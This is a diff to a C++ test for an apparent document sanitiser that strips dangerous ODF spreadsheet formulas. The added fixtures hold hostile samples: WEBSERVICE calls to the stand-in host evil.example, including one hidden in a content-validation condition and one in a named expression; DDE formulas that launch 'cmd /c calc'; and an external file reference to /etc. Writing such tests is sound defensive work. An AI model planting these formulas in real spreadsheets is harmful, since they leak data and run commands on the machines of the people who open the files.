@@ -717,6 +717,12 @@ TEST_CASE("odf: spreadsheet formulas that fetch, link or call out lose the formu
       {"of:=[&apos;https://evil.example/b.ods&apos;#$S.A1]*2", "ext-web", true},
       {"msoxl:=cmd|'/c calc'!A0", "dde-excel", true},
       {"of:=FILTERXML(&quot;&lt;a/&gt;&quot;;&quot;//a&quot;)", "fx-cached", true},
+      // No prefix, or one bound elsewhere: LibreOffice reads them as formulas all the same.
+      {"=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/np&quot;)", "ws-noprefix", true},
+      {"x:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/x&quot;)", "ws-otherprefix", true},
+      {"=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)", "dde-noprefix", true},
+      {"=['file:///etc/x.ods'#$Sheet1.A1]", "ext-noprefix", true},
+      {"=SUM([.B1:.B3])*2", "12", false},
       // Harmless: plain arithmetic, a function name inside a string, quoted sheet names.
       {"of:=SUM([.B1:.B3])", "6", false},
       {"of:=&quot;WEBSERVICE(&quot;&quot;x&quot;&quot;) is only text&quot;", "text", false},
@@ -733,7 +739,7 @@ TEST_CASE("odf: spreadsheet formulas that fetch, link or call out lose the formu
   m.push_back(
       {"content.xml",
        R"(<?xml version="1.0" encoding="UTF-8"?>
-<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Sheet1">)" +
+<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:content-validations><table:content-validation table:name="v1" table:condition="of:cell-content-is-in-list(WEBSERVICE(&quot;http://evil.example/v&quot;)) "/></table:content-validations><table:table table:name="Sheet1">)" +
            rows +
            R"x(</table:table><table:named-expressions><table:named-expression table:name="leak" table:base-cell-address="$Sheet1.$A$1" table:expression="of:=WEBSERVICE(&quot;http://evil.example/n&quot;)"/><table:named-range table:name="fine" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Sheet1.$A$1:.$A$3"/></table:named-expressions></office:spreadsheet></office:body></office:document-content>)x"});
   m.push_back({"styles.xml", R"(<?xml version="1.0" encoding="UTF-8"?>
@@ -745,14 +751,16 @@ TEST_CASE("odf: spreadsheet formulas that fetch, link or call out lose the formu
   INFO(test::findingsText(o) << o.detail);
   REQUIRE(o.verdict == Verdict::Modified);
   REQUIRE(o.replacement);
-  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE) x3"));
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE) x5"));
   CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (HYPERLINK)"));
-  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (DDE) x2"));
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (DDE) x3"));
   CHECK(hasFinding(o, "removed",
-                   "content.xml: table:table-cell table:formula (external reference) x2"));
+                   "content.xml: table:table-cell table:formula (external reference) x3"));
   CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (FILTERXML)"));
   CHECK(hasFinding(o, "removed",
                    "content.xml: table:named-expression table:expression (WEBSERVICE)"));
+  CHECK(hasFinding(o, "removed",
+                   "content.xml: table:content-validation table:condition (WEBSERVICE)"));
   std::string content = zipMemberText(o.replacement->data, "content.xml");
   for (const auto& c : cells) {
     INFO(c.formula);
